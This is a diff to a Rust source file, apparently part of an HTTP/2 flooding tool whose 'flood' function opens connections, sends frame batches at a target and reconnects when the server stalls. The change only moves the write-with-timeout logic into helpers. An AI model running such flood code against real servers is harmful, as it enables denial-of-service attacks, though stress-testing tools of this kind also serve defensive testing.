@@ -3,9 +3,9 @@
 use std::io;
 use std::sync::Arc;
 
-use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, WriteHalf};
 
-use super::{Attack, Breach, Scene, attack};
+use super::{Attack, Breach, Scene, attack, unless_stalled};
 use crate::target::Kind;
 use crate::wire::http2::{
     self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, frame,
@@ -54,7 +54,7 @@ async fn flood(
                 std::future::pending::<()>().await;
             }
         });
-        let mut is_open = writer.write_all(&[http2::preface(), begin()].concat()).await.is_ok();
+        let mut is_open = unless_stalled(send(&mut writer, &[http2::preface(), begin()].concat())).await.is_ok();
         for number in 0..FRAMES_PER_CONNECTION {
             if !scene.pace.take(units).await {
                 reading.abort();
@@ -62,9 +62,7 @@ async fn flood(
             }
             let bytes = batch(number);
             // A server that takes nothing more has stopped this connection; another one takes its place.
-            is_open = is_open
-                && matches!(tokio::time::timeout(STALL_MAX, writer.write_all(&bytes)).await, Ok(Ok(())))
-                && writer.flush().await.is_ok();
+            is_open = is_open && unless_stalled(send(&mut writer, &bytes)).await.is_ok();
             if !is_open {
                 reading.abort();
                 continue 'connections;
@@ -75,7 +73,10 @@ async fn flood(
     }
 }
 
-const STALL_MAX: std::time::Duration = std::time::Duration::from_secs(1);
+async fn send(writer: &mut WriteHalf<Box<dyn Wire>>, bytes: &[u8]) -> io::Result<()> {
+    writer.write_all(bytes).await?;
+    writer.flush().await
+}
 
 async fn connect(scene: &Scene) -> io::Result<Box<dyn Wire>> {
     let socket = dial(&scene.port.address).await?;
